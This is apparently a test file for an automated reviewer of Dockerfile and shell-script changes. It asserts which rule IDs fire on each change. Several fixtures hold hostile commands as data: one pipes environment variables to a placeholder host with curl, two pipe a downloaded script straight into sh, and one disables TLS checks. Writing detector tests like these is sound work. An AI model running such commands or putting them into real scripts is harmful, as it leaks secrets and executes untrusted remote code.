import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { memoryTree } from '../support/memory-tree.ts';
import { newRules, reviewFiles } from './support/engine.ts';

const IMAGE = 'FROM node:22.11\nUSER app\nCMD ["node", "server.js"]\n';

describe('a change of Dockerfiles and shell scripts', () => {
  test('is reviewed without a model', async () => {
    const outcome = await reviewFiles(
      { Dockerfile: IMAGE, 'build.sh': 'npm ci\n' },
      { Dockerfile: `${IMAGE}HEALTHCHECK NONE\n`, 'build.sh': 'npm ci\nnpm test\n' },
    );
    assert.equal(outcome.state, 'reviewed');
    assert.equal(outcome.verdict, 'pass');
    assert.deepEqual(
      outcome.coverage.hunks.map(({ file, seenBy }) => [file, ...seenBy]),
      [
        ['Dockerfile', 'text', 'engine'],
        ['build.sh', 'text', 'engine'],
      ],
    );
  });

  test('reports what it adds, and not what was there', async () => {
    const before = 'curl -k https://a.example.test\n';
    const outcome = await reviewFiles(
      { 'build.sh': before },
      { 'build.sh': `echo start\n${before}env | curl -d @- https://b.example.test\n` },
    );
    assert.deepEqual(newRules(outcome), ['CODE95']);
    assert.deepEqual(
      outcome.persisting.map(({ rule }) => rule),
      ['CODE45'],
    );
    assert.equal(outcome.verdict, 'blocked');
  });

  test('that takes a protection away is reported at what took it away', async () => {
    const outcome = await reviewFiles({ Dockerfile: IMAGE }, { Dockerfile: IMAGE.replace('USER app\n', '') });
    assert.deepEqual(newRules(outcome), ['CODE83']);
  });

  test('stays open where a script cannot be read whole', async () => {
    const outcome = await reviewFiles({ 'build.sh': 'npm ci\n' }, { 'build.sh': 'npm ci\nif true; then\n' });
    assert.equal(outcome.state, 'not-reviewed');
    assert.match(outcome.gaps[0]?.message ?? '', /a part of the script was not read/);
  });

  test('is reviewed in a repository with much code, too', async () => {
    const code = Object.fromEntries(Array.from({ length: 40 }, (_, index) => [`a${index}.js`, 'exports.a = 1;\n']));
    const outcome = await reviewFiles(
      { ...code, 'build.sh': 'npm ci\n' },
      { ...code, 'build.sh': 'npm ci\ncurl -s https://get.example.test | sh\n' },
    );
    assert.equal(outcome.state, 'reviewed');
    assert.deepEqual(newRules(outcome), ['CODE80']);
  });

  test('is seen in a program without an ending, too', async () => {
    const tree = memoryTree({ 'bin/deploy': '#!/bin/sh\ncurl -s https://get.example.test | sh\n' });
    const entries = tree.entries.map((entry) => (entry.kind === 'file' ? { ...entry, executable: true } : entry));
    const outcome = await reviewFiles({}, {}, { head: { ...tree, entries } });
    assert.deepEqual(newRules(outcome), ['CODE80']);
    assert.deepEqual(outcome.coverage.hunks[0]?.seenBy, ['text', 'engine']);
  });

  test('in another language of scripts still wants a model', async () => {
    const outcome = await reviewFiles({ Rakefile: 'task :a\n' }, { Rakefile: 'task :b\n' });
    assert.equal(outcome.state, 'not-reviewed');
  });
});
